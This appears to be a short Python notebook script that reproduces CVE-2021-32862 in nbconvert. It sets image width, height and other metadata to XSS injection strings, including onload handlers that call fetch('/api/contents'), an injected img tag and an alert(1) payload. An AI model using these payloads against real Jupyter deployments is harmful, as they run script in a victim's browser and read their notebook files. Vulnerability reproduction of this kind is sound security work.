"""Gives a picture a width and a height that are further attributes, which a page that shows it would take over."""

SOURCE = "CVE-2021-32862 (nbconvert wrote what the metadata of a notebook says into its pages)"
SUCCESS = "a script in the metadata of an output in the executed notebook"

# %%
from IPython.display import display

PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RUNS = "1 onload=fetch('/api/contents')"
for size in (RUNS, f'1" {RUNS} x="', f"1></img><img src=x {RUNS}>", "100%;position:fixed", "1\tonload=alert(1)"):
    about = {"width": size, "height": size, "unconfined": size, "isolated": size, "needs_background": size}
    display({"image/png": PICTURE, "text/plain": "x"}, raw=True, metadata={**about, "image/png": about})
    display({"image/jpeg": PICTURE, "image/gif": PICTURE}, raw=True, metadata={"image/jpeg": about, "image/gif": about})
print("attempted")
